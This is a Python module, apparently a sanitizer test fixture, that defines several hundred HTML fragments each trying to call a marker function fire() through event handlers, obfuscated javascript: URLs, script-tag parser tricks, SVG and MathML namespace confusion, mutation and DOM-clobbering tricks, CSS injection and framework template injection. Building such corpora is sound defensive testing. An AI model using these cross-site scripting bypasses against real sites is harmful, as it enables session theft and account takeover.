"""HTML that tries to act: each shape calls ``fire()`` if anything lets it.

``SHAPES`` maps a name to a fragment. A page that shows one of them defines ``fire`` first, and sees
whether it was called; ``click`` in a name means that something has to be clicked or focused for it.
"""

from __future__ import annotations

from typing import Final

_ON_ANY = (
    "onafterscriptexecute onanimationend onanimationstart onauxclick onbeforecopy onbeforecut"
    " onbeforeinput onbeforepaste onbeforetoggle onblur oncanplay onclick oncontentvisibility"
    "autostatechange oncontextmenu oncopy oncut ondblclick ondrag ondragend ondragstart"
    " ondrop onerror onfocus onfocusin onformdata onfullscreenchange ongotpointercapture oninput"
    " oninvalid onkeydown onload onmouseenter onmouseover onmousemove onmousewheel onpaste"
    " onpointerdown onpointerenter onpointerover onpointerrawupdate onscroll onscrollend"
    " onscrollsnapchange onsearch onsecuritypolicyviolation onselect onselectionchange"
    " onselectstart ontoggle ontouchstart ontransitionend ontransitionstart onunhandledrejection"
    " onwebkitanimationend onwebkitmouseforcechanged onwheel"
).split()

_HANDLERS: Final = {
    f"handler {name}": f"<p id=x tabindex=0 {name}=fire()>words</p>" for name in _ON_ANY
}

_LOADED: Final = {
    "img onerror": "<img src=x onerror=fire()>",
    "img onload": "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=fire()>",
    "img slash for blank": "<img/src=x/onerror=fire()>",
    "img newline in handler": '<img src=x on\nerror="fire()">',
    "img handler in capitals": "<IMG SRC=x ONERROR=fire()>",
    "img quote first": '<img """><script>fire()</script>">',
    "img unquoted tail": "<img src=x:alert onerror=eval(src.slice(0,0)+'fire()')>",
    "img twice the attribute": '<img src="x" src="y" onerror=fire() onerror="">',
    "img srcset": "<img srcset=x onerror=fire()>",
    "img lazy": "<img loading=lazy src=x onerror=fire()>",
    "image that means img": "<image src=x onerror=fire()>",
    "picture source": "<picture><source srcset=x><img onerror=fire()></picture>",
    "body onload": "<body onload=fire()>",
    "body onpageshow": "<body onpageshow=fire()>",
    "body onhashchange": "<body onhashchange=fire()><img src=x onerror=location.hash=1>",
    "frameset onload": "<frameset onload=fire()>",
    "video source": "<video><source onerror=fire()></video>",
    "video poster": "<video poster=javascript:fire()></video>",
    "audio onerror": "<audio src=x onerror=fire()></audio>",
    "track onerror": "<video controls><track default src=x onerror=fire()></video>",
    "input autofocus": "<input autofocus onfocus=fire()>",
    "select autofocus": "<select autofocus onfocus=fire()>",
    "textarea autofocus": "<textarea autofocus onfocus=fire()></textarea>",
    "button autofocus": "<button autofocus onfocus=fire()>x</button>",
    "keygen autofocus": "<keygen autofocus onfocus=fire()>",
    "any element autofocus": "<p tabindex=1 autofocus onfocus=fire()>x</p>",
    "details open": "<details open ontoggle=fire()>x</details>",
    "marquee": "<marquee onstart=fire()>x</marquee>",
    "marquee loop": "<marquee loop=1 width=0 onfinish=fire()>x</marquee>",
    "meter": "<meter onmouseover=fire()>0</meter>",
    "object onerror": "<object data=x onerror=fire()></object>",
    "link onerror": "<link rel=stylesheet href=x onerror=fire()>",
    "style onload": "<style onload=fire()></style>",
    "isindex": "<isindex type=image src=1 onerror=fire()>",
    "dialog": "<dialog open onclose=fire()><form method=dialog><button>x</button></form></dialog>",
    "popover": "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=fire()>y</p>",
    "xss in lang": '<p lang="\x22><img src=x onerror=fire()>">x</p>',
    "custom element": "<x-y onfocus=fire() tabindex=1 autofocus>x</x-y>",
}

_SCRIPTS: Final = {
    "script": "<script>fire()</script>",
    "script in capitals": "<SCRIPT>fire()</SCRIPT>",
    "script with blank before end": "<script>fire()</script >",
    "script with a slash": "<script/x>fire()</script>",
    "script from data": "<script src=data:text/javascript,fire()></script>",
    "script as a module": "<script type=module>fire()</script>",
    "script module from data": '<script type=module src="data:text/javascript,fire()"></script>',
    "script in script": "<scr<script>ipt>fire()</scr</script>ipt>",
    "script unclosed": "<script>fire()",
    "script in a comment's end": "<!--><script>fire()</script>-->",
    "script after --!>": "<!-- --!><script>fire()</script>",
    "script in conditional comment": "<!--[if true]><script>fire()</script><![endif]-->",
    "script after CDATA": "<![CDATA[><script>fire()</script>]]>",
    "script in an attribute": '<p title="</p><script>fire()</script>">x</p>',
    "script in title": "<title><script>fire()</script></title>",
    "script out of title": "<title></title><script>fire()</script></title>",
    "script out of textarea": "<textarea></textarea><script>fire()</script></textarea>",
    "script out of style": "<style></style><script>fire()</script></style>",
    "script out of noscript": "<noscript></noscript><script>fire()</script></noscript>",
    "script out of iframe": "<iframe></iframe><script>fire()</script></iframe>",
    "script out of xmp": "<xmp></xmp><script>fire()</script></xmp>",
    "script out of plaintext": "<plaintext></plaintext><script>fire()</script>",
    "script after null": "<scr\x00ipt>fire()</scr\x00ipt>",
    "script after form feed": "<script\x0c>fire()</script>",
    "script in template": "<template><script>fire()</script></template>",
    "shadow root": "<p><template shadowrootmode=open><script>fire()</script></template></p>",
    "script importmap": '<script type=importmap>{"imports":{"x":"data:text/javascript,fire()"}}'
    "</script><script type=module>import 'x'</script>",
    "script event for": "<script event=onload for=window>fire()</script>",
    "script vbscript": "<script language=vbscript>fire()</script>",
    "script of XML": '<xml><i><b><img src="x" onerror="fire()"></b></i></xml>',
    "processing instruction": '<?xml version="1.0"?><script>fire()</script>',
    "xml stylesheet": '<?xml-stylesheet href="javascript:fire()"?>',
    "half a tag": "<script src=//x.invalid/x.js",
    "tag in a tag": "<<script>fire()</script>",
    "closing tag with an attribute": "</p onclick=fire()>x",
    "entity for less": "&lt;script&gt;fire()&lt;/script&gt;",
    "entity twice": "&amp;lt;script&amp;gt;fire()&amp;lt;/script&amp;gt;",
    "entity without semicolon": "&lt<script>fire()</script>",
    "full width signs": "＜script＞fire()＜/script＞",
    "utf-7": "+ADw-script+AD4-fire()+ADw-/script+AD4-",
    "iso-2022 escapes": "\x1b$B<script>fire()</script>\x1b(B",
    "line separator": "<p>\u2028<script>fire()</script>\u2029</p>",
    "right to left": "\u202e<script>fire()</script>",
    "long dash comment": "<!-- -- -- --><script>fire()</script>",
    "bogus comment": "<!x><script>fire()</script>",
    "question comment": "<?><script>fire()</script>",
    "slash comment": "</!><script>fire()</script>",
}

_SPELLINGS: Final = {
    "plain": "javascript:fire()",
    "in capitals": "JaVaScRiPt:fire()",
    "blank before": " javascript:fire()",
    "control before": "\x01javascript:fire()",
    "tab inside": "java\tscript:fire()",
    "newline inside": "java\nscript:fire()",
    "return before the colon": "javascript\r:fire()",
    "entity for a letter": "&#106;avascript:fire()",
    "entity in hexadecimal": "&#x6A;avascript:fire()",
    "entity with zeros": "&#0000106avascript:fire()",
    "entity for a tab": "java&Tab;script:fire()",
    "entity for a newline": "java&NewLine;script:fire()",
    "entity for the colon": "javascript&colon;fire()",
    "entity for parentheses": "javascript:fire&lpar;&rpar;",
    "percent escapes": "javascript:%66ire()",
    "comment first": "javascript://%0Afire()",
    "wide blank before": "\u3000javascript:fire()",
    "no-break blank before": "\xa0javascript:fire()",
    "null inside": "java\x00script:fire()",
    "soft hyphen inside": "java\xadscript:fire()",
    "vbscript": "vbscript:fire()",
    "livescript": "livescript:fire()",
    "data as a page": "data:text/html,<script>fire()</script>",
    "data as base64": "data:text/html;base64,PHNjcmlwdD5maXJlKCk8L3NjcmlwdD4=",
    "data as a drawing": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='fire()'/>",
    "data without a type": "data:,<script>fire()</script>",
    "blob": "blob:https://x.invalid/1",
    "file": "file:///etc/passwd",
    "view source": "view-source:javascript:fire()",
    "feed": "feed:javascript:fire()",
    "jar": "jar:javascript:fire()!/",
    "about": "about:blank#<script>fire()</script>",
    "colon first": ":javascript:fire()",
    "backslashes": "\\\\x.invalid\\y",
    "slashes before": "//javascript:fire()",
}

_ADDRESSES: Final = {
    f"click address {name}": f'<a href="{address}">words</a>'
    for name, address in _SPELLINGS.items()
}

_CARRIERS: Final = {
    "img src": "<img src=javascript:fire()>",
    "img dynsrc": "<img dynsrc=javascript:fire()>",
    "img lowsrc": "<img lowsrc=javascript:fire()>",
    "img drawing": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='fire()'/>\">",
    "input image": "<input type=image src=javascript:fire()>",
    "body background": "<body background=javascript:fire()>",
    "table background": "<table background=javascript:fire()><tr><td>x</td></tr></table>",
    "click area": "<map name=m><area href=javascript:fire() shape=rect coords=0,0,9,9></map>"
    "<img usemap=#m width=9 height=9 src=x>",
    "click form": "<form action=javascript:fire()><button>x</button></form>",
    "click formaction": "<form><button formaction=javascript:fire()>x</button></form>",
    "click input formaction": "<form><input type=submit formaction=javascript:fire()></form>",
    "click form far away": "<form id=f action=javascript:fire()></form><button form=f>x</button>",
    "iframe src": "<iframe src=javascript:fire()></iframe>",
    "iframe parent": "<iframe src=javascript:parent.fire()></iframe>",
    "iframe srcdoc": '<iframe srcdoc="<script>parent.fire()</script>"></iframe>',
    "iframe srcdoc entities": '<iframe srcdoc="&lt;script&gt;parent.fire()&lt;/script&gt;">',
    "iframe onload": "<iframe onload=fire()></iframe>",
    "iframe name": '<iframe name="fire()" src="javascript:eval(\'parent.\'+name)"></iframe>',
    "frame src": "<frameset><frame src=javascript:parent.fire()></frameset>",
    "object data": "<object data=javascript:fire()></object>",
    "object page": "<object data='data:text/html,<script>parent.fire()</script>'></object>",
    "object codebase": "<object codebase=javascript:fire()// data=x></object>",
    "object classid": "<object classid=clsid:ae24fdae type=text/x-scriptlet data=x></object>",
    "embed src": "<embed src=javascript:fire()>",
    "embed drawing": "<embed type=image/svg+xml src=\"data:image/svg+xml,<svg xmlns='http://"
    "www.w3.org/2000/svg'><script>parent.fire()</script></svg>\">",
    "applet": "<applet code=x archive=x></applet>",
    "base href": "<base href=javascript:fire()//><a href=x>x</a>",
    "base elsewhere": "<base href=//x.invalid/><script src=x.js></script>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=javascript:fire()">',
    "meta refresh page": '<meta http-equiv=refresh content="0;url=data:text/html,x">',
    "meta cookie": '<meta http-equiv=set-cookie content="x=1">',
    "meta policy": "<meta http-equiv=content-security-policy content=\"script-src 'none'\">",
    "meta charset": "<meta charset=utf-7>+ADw-script+AD4-fire()+ADw-/script+AD4-",
    "link import": "<link rel=import href='data:text/html,<script>fire()</script>'>",
    "link stylesheet": "<link rel=stylesheet href='data:text/css,p{color:red}'>",
    "link prefetch": "<link rel=prefetch href=//x.invalid/>",
    "click quoted cite": "<blockquote cite=javascript:fire()>words</blockquote>",
    "click longdesc": "<img longdesc=javascript:fire() src=x>",
    "click ping": "<a href=/x ping=javascript:fire()>x</a>",
    "click target": "<a href=javascript:fire() target=_self>x</a>",
    "manifest": "<html manifest=javascript:fire()>x</html>",
    "portal": "<portal src=javascript:fire()></portal>",
    "bgsound": "<bgsound src=javascript:fire()>",
    "layer": "<layer src=javascript:fire()></layer>",
    "ilayer": "<ilayer src=javascript:fire()></ilayer>",
}

_DRAWINGS: Final = {
    "svg onload": "<svg onload=fire()>",
    "svg script": "<svg><script>fire()</script></svg>",
    "svg script href": "<svg><script href=data:text/javascript,fire() /></svg>",
    "svg script entities": "<svg><script>&#102;ire()</script></svg>",
    "svg script CDATA": "<svg><script><![CDATA[fire()]]></script></svg>",
    "svg animate": "<svg><animate onbegin=fire() attributeName=x dur=1s></svg>",
    "svg set": "<svg><set onbegin=fire() attributeName=x dur=1s></svg>",
    "svg animate to": "<svg><a><animate attributeName=href values=javascript:fire() /><text y=9>x"
    "</text></a></svg>",
    "svg animatemotion": "<svg><animateMotion onbegin=fire() dur=1s></svg>",
    "svg animatetransform": "<svg><animateTransform onbegin=fire() attributeName=x dur=1s></svg>",
    "svg discard": "<svg><discard onbegin=fire()></svg>",
    "svg image": "<svg><image href=x onerror=fire() /></svg>",
    "svg use data": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000"
    "/svg'><image href='x' onerror='fire()'/></svg>#x\"/></svg>",
    "click svg link": "<svg><a xlink:href=javascript:fire()><text y=9>x</text></a></svg>",
    "svg foreign object": "<svg><foreignObject><img src=x onerror=fire()></foreignObject></svg>",
    "svg foreign iframe": "<svg><foreignObject><iframe src=javascript:parent.fire()></iframe>"
    "</foreignObject></svg>",
    "svg title": "<svg><title><img src=x onerror=fire()></title></svg>",
    "svg desc": "<svg><desc><img src=x onerror=fire()></desc></svg>",
    "svg style": "<svg><style><img src=x onerror=fire()></style></svg>",
    "svg style comment": "<svg><style>/*</style><img src=x onerror=fire()>*/</style></svg>",
    "svg handler": "<svg><handler type=text/javascript>fire()</handler></svg>",
    "svg feimage": "<svg><filter><feImage href=javascript:fire() /></filter></svg>",
    "svg in p": "<svg></p><style><a id='</style><img src=x onerror=fire()>'>",
    "svg prefixed": '<x:svg xmlns:x="http://www.w3.org/2000/svg" onload="fire()"/>',
    "math annotation": "<math><annotation-xml encoding=text/html><img src=x onerror=fire()>"
    "</annotation-xml></math>",
    "math style": "<math><style><img src=x onerror=fire()></style></math>",
    "math mtext": "<math><mtext><img src=x onerror=fire()></mtext></math>",
    "math mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    "onerror=fire()&gt;'>",
    "math malignmark": "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror="
    "fire() src>'>",
    "math nested forms": "<form><math><mtext></form><form><mglyph><style></math><img src onerror="
    "fire()>",
    "click math link": "<math><mi href=javascript:fire()>x</mi></math>",
    "click math xlink": "<math xlink:href=javascript:fire()>x</math>",
    "click math action": "<math><maction actiontype=statusline xlink:href=javascript:fire()>x"
    "</maction></math>",
}

_MUTATIONS: Final = {
    "noscript title": '<noscript><p title="</noscript><img src=x onerror=fire()>">',
    "style in select": "<select><style></select><img src=x onerror=fire()></style></select>",
    "table in svg": "<svg><table><style><img src=x onerror=fire()>",
    "listing": "<listing>&lt;img src=x onerror=fire()&gt;</listing>",
    "back ticks": "<img alt=`><img src=x onerror=fire()>`>",
    "back tick attribute": "<img src=`x` onerror=fire()>",
    "comment in svg style": "<svg><style><!--</style><img src=x onerror=fire()>-->",
    "desc to html": "<svg><desc><svg><style><img id='</style><img src=x onerror=fire()>'>",
    "xmp in svg": "<svg><xmp><img src=x onerror=fire()></xmp></svg>",
    "noembed": '<noembed><img title="</noembed><img src=x onerror=fire()>"></noembed>',
    "noframes": '<noframes><img title="</noframes><img src=x onerror=fire()>"></noframes>',
    "plaintext in svg": "<svg><plaintext><img src=x onerror=fire()>",
    "textarea attribute": '<textarea><img title="</textarea><img src=x onerror=fire()>">',
    "title attribute": '<title><a title="</title><img src=x onerror=fire()>">',
    "iframe attribute": '<iframe><a title="</iframe><img src=x onerror=fire()>">',
    "nested a": "<a href=x><a href=y><table><a href=javascript:fire()>z</table></a></a>",
    "adoption": "<b><p><a href=javascript:fire()></b></p>x",
    "foster parent": "<table><img src=x onerror=fire()><tr><td>x</td></tr></table>",
    "template in table": "<table><template><tr><td><img src=x onerror=fire()></template></table>",
    "caption": "<table><caption><svg><style></caption><img src=x onerror=fire()></style>",
    "optgroup": "<select><optgroup><svg onload=fire()></optgroup></select>",
    "nested forms": "<form><div></form><form><input onfocus=fire() autofocus></div>",
    "p in button": "<button><p></button><img src=x onerror=fire()>",
    "br end": "</br><img src=x onerror=fire()>",
    "html in html": "<html><body><html onmouseover=fire()><body onload=fire()>",
    "very long": "<p>" + "x" * 70_000 + "<img src=x onerror=fire()>",
    "very deep": "<div>" * 600 + "<img src=x onerror=fire()>",
    "very many attributes": "<p " + " ".join(f"x{n}" for n in range(600)) + " onclick=fire()>x",
    "never closed": "<p title='<img src=x onerror=fire()>",
}

_STYLES: Final = {
    "style expression": '<p style="width:expression(fire())">x</p>',
    "style url": '<p style="background:url(javascript:fire())">x</p>',
    "style escapes": r'<p style="background:\75rl(javascript:fire())">x</p>',
    "style binding": '<p style="-moz-binding:url(data:text/xml,x)">x</p>',
    "style behaviour": '<p style="behavior:url(x.htc)">x</p>',
    "style import": "<style>@import 'javascript:fire()';</style>",
    "style import data": '<style>@import "data:text/css,p{color:red}";</style>',
    "style animation": "<style>@keyframes x{}</style><p style='animation:x 1s' "
    "onanimationend=fire()>x</p>",
    "style cover": '<a href=javascript:fire() style="position:fixed;inset:0">x</a>',
    "style font": "<style>@font-face{font-family:x;src:url(//x.invalid/x)}</style>",
    "style leak": "<style>a[href^=x]{background:url(//x.invalid/)}</style>",
    "style content": "<style>p:before{content:'</style><img src=x onerror=fire()>'}</style>",
    "style in an attribute's value": '<p style="x:</style><img src=x onerror=fire()>">x</p>',
    "layer stylesheet": "<style type=text/javascript>fire()</style>",
}

_CLOBBERING: Final = {
    "clobber document": "<img name=getElementById><form name=body></form>",
    "clobber window": "<a id=fire></a><a id=fire name=x href=javascript:fire()>x</a>",
    "clobber form": "<form id=x><input name=attributes><input name=action></form>",
    "clobber default": "<a id=defaultView href=x></a><iframe name=self></iframe>",
    "htmx": "<p hx-get=/x hx-trigger=load hx-on:click=fire()>x</p>",
    "htmx data": '<p data-hx-get=/x data-hx-trigger=load data-hx-on="load: fire()">x</p>',
    "htmx event": "<p hx-on::load=fire() hx-on--load=fire()>x</p>",
    "htmx evaluate": "<p hx-vals='js:{x:fire()}' hx-get=/x hx-trigger=load>x</p>",
    "alpine": "<p x-data x-init=fire() @click=fire()>x</p>",
    "angular": "<p ng-app ng-init=fire()>{{constructor.constructor('fire()')()}}</p>",
    "vue": "<p v-on:click=fire() :title=fire()>x</p>",
    "is": "<p is=x-y>x</p>",
    "slot": "<p slot=x part=y exportparts=z>x</p>",
    "access key": "<p accesskey=x onclick=fire()>x</p>",
    "editable": "<p contenteditable onbeforeinput=fire()>x</p>",
    "itemscope": "<p itemscope itemtype=javascript:fire()>x</p>",
    "invoker": "<button commandfor=x command=show-modal>x</button><dialog id=x onfocus=fire()>y",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["/x"]}]}</script>',
}

SHAPES: Final[dict[str, str]] = {
    **_HANDLERS,
    **_LOADED,
    **_SCRIPTS,
    **_ADDRESSES,
    **_CARRIERS,
    **_DRAWINGS,
    **_MUTATIONS,
    **_STYLES,
    **_CLOBBERING,
}
